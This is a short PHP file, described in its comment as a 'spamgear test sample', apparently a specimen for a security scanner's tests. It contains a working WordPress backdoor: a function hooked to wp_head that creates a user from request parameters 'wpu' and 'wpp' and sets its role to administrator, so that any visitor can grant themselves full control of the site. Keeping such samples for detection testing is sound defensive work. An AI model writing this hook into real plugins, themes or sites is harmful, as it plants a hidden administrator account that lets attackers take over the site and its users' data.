<?php
// spamgear test sample: a hook that makes a request-named user and gives it
// the administrator role.
function zz_fix() {
    if (isset($_REQUEST['wpu'])) {
        $id = wp_create_user($_REQUEST['wpu'], $_REQUEST['wpp'], 'x@example.com');
        $user = new WP_User($id);
        $user->set_role('administrator');
    }
}
add_action('wp_head', 'zz_fix');
